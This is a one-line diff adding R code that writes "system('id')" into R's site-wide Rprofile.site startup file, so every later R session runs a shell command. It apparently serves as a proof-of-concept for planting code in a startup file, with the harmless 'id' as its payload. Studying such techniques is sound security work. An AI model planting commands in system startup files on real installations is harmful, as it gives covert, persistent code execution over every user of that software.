@@ -1,0 +1,1 @@
+writeLines("system('id')", file.path(R.home("etc"), "Rprofile.site"))
